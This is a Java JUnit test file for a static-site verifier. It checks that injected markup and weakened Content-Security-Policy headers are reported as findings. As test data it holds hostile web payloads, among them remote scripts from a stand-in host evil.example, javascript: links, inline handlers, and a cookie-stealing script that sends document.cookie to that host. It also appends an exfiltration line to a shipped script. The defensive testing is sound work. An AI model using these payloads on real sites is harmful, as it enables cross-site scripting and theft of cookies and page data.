package org.attoscope.verify;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.attoscope.testing.Cli;
import org.attoscope.testing.TinyProject;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * verify allows, it does not deny: a page runs only the scripts the build wrote, byte for byte, under a strict
 * Content-Security-Policy, and no markup loads or navigates anywhere by itself. Each case is markup an attacker (or
 * a careless template) would add to a page the build made; each must be a finding.
 */
class ScriptAllowListTest {
    @TempDir
    static Path dir;
    static TinyProject project;
    static String index;

    @BeforeEach
    void built() throws IOException {
        if (project == null) {
            project = new TinyProject(dir.resolve("p"));
            assertEquals(0, project.build(), project.err.toString());
            index = Files.readString(project.site.resolve("index.html"));
        }
    }

    private List<Finding> check(String page, String path) {
        BuiltSite site = BuiltSite.open(project.site, "site");
        ScriptAllowList list = new ScriptAllowList(site, ShippedFiles.staged(site));
        return list.check("site/" + path, path, Jsoup.parse(page));
    }

    private String findings(String page) {
        return findings(page, "index.html");
    }

    private String findings(String page, String path) {
        return String.join("\n", check(page, path).stream().map(Finding::toString).toList());
    }

    private static String policyOf(String page) {
        return Jsoup.parse(page).selectFirst("meta[http-equiv=Content-Security-Policy]").attr("content");
    }

    @Test
    void everyPageTheBuildMakesPassesAndCarriesAStrictPolicy() throws IOException {
        assertEquals("", findings(index));
        String csp = Jsoup.parse(index).selectFirst("meta[http-equiv=Content-Security-Policy]").attr("content");
        assertTrue(csp.startsWith("default-src 'none'; script-src 'self'; style-src 'self';"), csp);
        assertTrue(csp.contains("connect-src 'none'") && csp.contains("base-uri 'none'") && csp.contains("form-action 'none'"), csp);
        for (String page : List.of("explore/cat/index.html", "lessons/02-attention/index.html", "verification/index.html", "404.html")) {
            assertTrue(Files.readString(project.site.resolve(page)).contains("http-equiv=\"Content-Security-Policy\""), page);
        }
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "meta refresh | <meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\"> | navigates the page by itself",
            "data: script | <script src=\"data:text/javascript,alert(1)\"></script> | is not a script the build wrote",
            "remote script | <script src=\"https://evil.example/x.js\"></script> | is not a script the build wrote",
            "script outside the site | <script src=\"../../x.js\"></script> | is not a script the build wrote",
            "inline handler | <img alt=\"\" src=\"assets/site.css\" onerror=\"fetch(1)\"> | is an inline event handler",
            "svg handler | <svg onload=\"x()\"></svg> | is an inline event handler",
            "javascript: link | <a href=\" javascript:alert(1)\">x</a> | URL, which runs script",
            "object | <object data=\"x.pdf\"></object> | a <object> element",
            "embed | <embed src=\"x.swf\"> | a <embed> element",
            "iframe | <iframe src=\"https://evil.example\"></iframe> | a <iframe> element",
            "base | <base href=\"https://evil.example/\"> | changes where every relative link points",
            "form action | <form action=\"https://evil.example/\"><button>go</button></form> | submits somewhere",
            "formaction | <form><button formaction=\"https://evil.example/\">go</button></form> | submits somewhere",
            "svg use | <svg><use href=\"https://evil.example/s.svg#a\"></use></svg> | draws from another document",
            "svg xlink use | <svg><use xlink:href=\"other.svg#a\"></use></svg> | draws from another document",
            "style element | <style>body{background:url(https://evil.example/p.png)}</style> | a <style> element",
            "prefetch | <link rel=\"prefetch\" href=\"https://evil.example/\"> | only style sheets",
            "foreign stylesheet | <link rel=\"stylesheet\" href=\"https://evil.example/s.css\"> | is not a style sheet the build wrote",
            "unhashed inline script | <script>new Image().src='https://evil.example/?'+document.cookie</script> | does not list",
            "module script type | <script type=\"text/x-other\">1</script> | a JSON data block",
    })
    void markupThatRunsOrLoadsWhatTheBuildDidNotWriteIsAFinding(String name, String markup, String expected) {
        String f = findings(index.replace("</body>", markup + "</body>"));
        assertTrue(f.contains(expected), name + ":\n" + f);
    }

    @Test
    void aPolicyThatAllowsMoreThanThePageNeedsIsAFinding() {
        String csp = Jsoup.parse(index).selectFirst("meta[http-equiv=Content-Security-Policy]").attr("content");
        assertTrue(findings(index.replace(csp, csp.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'"))).contains("lets scripts come from 'unsafe-inline'"));
        assertTrue(findings(index.replace(csp, csp.replace("connect-src 'none'", "connect-src https://evil.example"))).contains("allows connections"));
        assertTrue(findings(index.replace(csp, csp.replace("default-src 'none'", "default-src *"))).contains("does not start from default-src 'none'"));
        assertTrue(findings(index.replace(csp, csp.replace("script-src 'self'", "script-src 'self' 'sha256-AAAA'"))).contains("not on the page"));
        assertTrue(findings(index.replaceFirst("<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "")).contains("no Content-Security-Policy"));
    }

    @Test
    void onlyThePlaygroundMayCompileWebAssembly() throws IOException {
        String playground = Files.readString(project.site.resolve("playground/index.html"));
        String csp = policyOf(playground);
        assertEquals("", findings(playground, "playground/index.html"));
        assertTrue(csp.startsWith("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self';"), csp);
        assertTrue(csp.contains("connect-src 'none'") && csp.contains("worker-src 'none'") && !csp.contains("'unsafe-eval'"), csp);
        for (String page : List.of("index.html", "explore/cat/index.html", "lessons/02-attention/index.html", "verification/index.html", "404.html")) {
            assertTrue(!policyOf(Files.readString(project.site.resolve(page))).contains("wasm"), page);
        }

        String indexCsp = policyOf(index);
        assertTrue(findings(index.replace(indexCsp, indexCsp.replace("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'")))
                .contains("lets this page compile WebAssembly ('wasm-unsafe-eval' in script-src); only the playground (playground/index.html) may"));
        String elsewhere = findings(playground.replace(csp, csp.replace("default-src 'none'", "default-src 'none' 'wasm-unsafe-eval'")), "playground/index.html");
        assertTrue(elsewhere.contains("allows 'wasm-unsafe-eval' in default-src"), elsewhere);
        String eval = findings(playground.replace(csp, csp.replace("'wasm-unsafe-eval'", "'unsafe-eval'")), "playground/index.html");
        assertTrue(eval.contains("lets scripts come from 'unsafe-eval'"), eval);
    }

    @Test
    void textAppendedToAShippedScriptIsCaughtByItsHash() throws IOException {
        TinyProject p = new TinyProject(dir.resolve("q"));
        assertEquals(0, p.build(), p.err.toString());
        Cli.Run clean = Cli.attoscope("verify", "--site", p.site.toString(), "--content", p.content.toString(), "--templates", p.templates.toString());
        assertEquals(0, clean.exit(), clean.out() + clean.err());
        Files.writeString(p.site.resolve("assets/explorer.js"), "\nnew Image().src = 'https://evil.example/' + location;\n",
                java.nio.file.StandardOpenOption.APPEND);
        Cli.Run run = Cli.attoscope("verify", "--site", p.site.toString(), "--content", p.content.toString(), "--templates", p.templates.toString());
        assertEquals(1, run.exit(), run.out());
        assertTrue(run.out().contains(p.site + "/assets/explorer.js: changed since the build wrote it"), run.out());
        assertTrue(run.out().contains("is not byte for byte the script the build wrote"), run.out());
    }
}
